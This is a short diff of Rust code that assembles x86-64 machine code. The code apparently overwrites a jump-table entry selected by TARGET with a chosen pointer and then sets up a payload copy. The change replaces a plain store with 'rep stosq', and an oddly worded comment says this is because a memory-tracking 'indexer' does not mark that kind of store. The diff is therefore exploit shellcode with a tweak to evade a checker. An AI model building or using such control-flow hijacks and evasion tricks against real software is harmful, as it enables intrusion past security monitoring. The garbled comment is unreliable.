@@ -101,8 +101,11 @@ fn code(payload_length: usize) -> Vec<u8> {
     code.extend([0x74, 0x05]); // je out
     code.extend([0x48, 0xff, 0xc7]); // inc rdi
     code.extend([0xeb, 0xf6]); // jmp back
-    code.extend(load(RSI, JUMP_TABLE + 8 * (TARGET & 0xffff)));
-    code.extend([0x48, 0x89, 0x3e]); // mov [rsi], rdi
+    code.extend([0x48, 0x89, 0xf8]); // mov rax, rdi
+    code.extend(load(RDI, JUMP_TABLE + 8 * (TARGET & 0xffff)));
+    // A string instruction: of other stores an indexer keeps marks beside the memory, where there is none for this one.
+    code.extend([0xb9, 1, 0, 0, 0]); // mov ecx, 1
+    code.extend([0xf3, 0x48, 0xab]); // rep stosq
     code.extend(load(RDI, COPY));
     code.extend(load(RSI, PAYLOAD_LIMIT));
     code.extend(load(RAX, TARGET));
